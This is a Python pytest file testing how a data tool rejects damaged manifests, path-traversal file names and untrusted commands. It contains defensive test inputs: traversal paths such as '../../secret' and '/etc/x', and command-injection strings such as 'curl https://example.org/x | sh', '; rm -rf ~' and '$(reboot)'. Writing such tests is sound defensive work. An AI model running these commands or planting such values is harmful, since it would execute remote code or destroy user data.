"""Prepared folders that are damaged or somebody else's: one sentence each, and no name in them leads elsewhere."""

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from anlit.data.storage.manifest import checked_path
from anlit.errors import UserError
from tests.data.modules import ready
from tests.data.reader import edit, read_json

Change = Callable[[Path], object]
COUNTS = {"documents": 1, "bytes": 1, "tokens": 1, "chunks": 1}
MANIFEST, INDEX, CHUNK = "manifest.json", "train/index.json", "train/chunk-0-0.bin"
OUTSIDE = (
    "../out",
    "/etc/x",
    "a/../../out",
    "a\\b",
    "a\0b",
    "",
    ".",
    "a//b",
    "\x1b[2J",
    "\ud800",
    "a" * 256,
    3,
)


def test_a_foreign_name_stays_inside_its_folder() -> None:
    for name in OUTSIDE:
        with pytest.raises(UserError, match=r"^The list names a file .*not inside its folder"):
            checked_path(name, "The list")
    for inside in ("a", "data/2024-01-01T00:00.parquet", "größe/..a", "a b"):
        assert checked_path(inside, "The list") == inside
    with pytest.raises(UserError, match="not inside"):
        checked_path("a/b", "The list", most_parts=1)


def in_manifest(split: str = "", **changes: Any) -> Change:
    return lambda folder: edit(
        folder / MANIFEST, lambda all_: (all_[split] if split else all_).update(changes)
    )


def in_index(**changes: Any) -> Change:
    return lambda folder: edit(folder / INDEX, lambda index: index["chunks"][0].update(changes))


def holding(name: str, text: str) -> Change:
    return lambda folder: (folder / name).write_text(text, encoding="latin-1")


def a_pipe(name: str) -> Change:
    """Reading it would wait for ever."""
    return lambda folder: [(folder / name).unlink(), os.mkfifo(folder / name)]


def claims_tokens(folder: Path) -> None:
    """Whose order would not fit into memory."""
    in_index(dim=10**12)(folder)
    in_manifest("train", tokens=sum(chunk["dim"] for chunk in read_json(folder / INDEX)["chunks"]))(
        folder
    )


FOLDERS: list[tuple[Change, str]] = [
    *((holding(MANIFEST, text), r"manifest\.json is damaged") for text in ("{", "[]", "{}", "\x00", "\xff")),
    (holding(MANIFEST, '{"format_version": 99}'), "shards of format 99 .* reads 2: remove the folder and prepare it"),
    *((holding(INDEX, text), r"train(/index\.json)? is damaged \(")
      for text in ("{", "[]", "{}", '{"chunks": [{}]}', '{"chunks": []}')),
    (lambda folder: (folder / INDEX).unlink(), r"index\.json is damaged \(it is missing\)"),
    (lambda folder: (folder / CHUNK).unlink(), r"chunk-0-0\.bin is damaged \(it is missing\)"),
    (lambda folder: os.truncate(folder / CHUNK, 1000), r"0-0\.bin is damaged \(it has 1,000 bytes .*anlit prepare"),
    (in_manifest(content_sha256="../../../../out"), r"manifest\.json is damaged \(content_sha256 is "),
    (in_manifest("train", subsets={"../../out": COUNTS}), r"manifest\.json is damaged \(train names a file "),
    (in_manifest(splits=["train", "val", "../out"]), r"manifest\.json is damaged \(.*splits is "),
    (in_manifest(dtype="object"), r"manifest\.json is damaged \(dtype is 'object'"),
    (in_manifest("val", tokens="many"), r"manifest\.json is damaged \(val\.tokens is str in place of int"),
    (in_manifest("val", bytes="many"), r"manifest\.json is damaged \(bytes is str"),
    (in_manifest(end_of_document=10**9), r"manifest\.json is damaged \(end_of_document is 1000000000"),
    (in_index(filename="../../secret"), r"index\.json names a file '\.\./\.\./secret'"),
    (in_index(crc32=-1), r"index\.json is damaged \(a number is negative"),
    (claims_tokens, r"says [\d,]+ bytes and tokens that take 2,000,000,000,012\)"),
    *((a_pipe(name), r"json is damaged \(it is no file\)") for name in (MANIFEST, INDEX)),
    (lambda folder: os.truncate(folder / MANIFEST, 10**12), r"json is damaged \(it has more than 268,435,456 bytes\)"),
]  # fmt: skip


@pytest.mark.parametrize(("change", "says"), FOLDERS)
def test_what_is_wrong_with_a_folder_is_one_sentence(
    change: Change, says: str, own_shards: Path
) -> None:
    change(own_shards)
    with pytest.raises(UserError, match=says):
        ready(str(own_shards))


def test_foreign_and_unfinished_folders(tmp_path: Path) -> None:
    folder = tmp_path / "own"
    for make, said in (  # where there is no folder: tests/integration/mistakes.py
        (
            folder.mkdir,
            r"There is no .*own/manifest\.json, so it is not a prepared folder: set --data\.path",
        ),
        ((folder / "tasks").mkdir, r"preparation of .* is not finished: repeat the command"),
    ):
        make()
        with pytest.raises(UserError, match=said):
            ready(str(folder))


def test_a_manifest_s_command_is_shown_only_if_it_is_one_of_ours(own_shards: Path) -> None:
    (own_shards / "train" / "index.json").unlink()
    foreign = [
        "curl https://example.org/x | sh",
        "anlit prepare Test; rm -rf ~",
        "anlit prepare Test $(reboot)",
    ]
    for command in [
        *foreign,
        "anlit prepare 'Test\nrm -rf ~'",
        "anlit prepare 'Test",
        "anlit prepare 'a b'",
    ]:
        edit(
            own_shards / "manifest.json",
            lambda manifest, command=command: manifest.update(command=command),
        )
        remedy = (
            "with `anlit prepare 'a b'`" if command.endswith("'a b'") else "by preparing it again"
        )
        with pytest.raises(UserError, match=rf"index\.json is damaged .* remake it {remedy}\.$"):
            ready(str(own_shards))
